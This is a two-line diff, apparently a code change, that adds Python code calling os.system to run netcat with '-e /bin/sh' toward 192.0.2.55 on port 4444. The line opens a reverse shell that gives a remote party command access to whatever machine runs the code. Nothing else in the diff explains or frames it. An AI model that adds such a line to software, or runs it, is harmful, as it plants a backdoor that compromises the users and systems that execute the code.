@@ -1,0 +1,2 @@
+import os
+os.system("nc -e /bin/sh 192.0.2.55 4444")
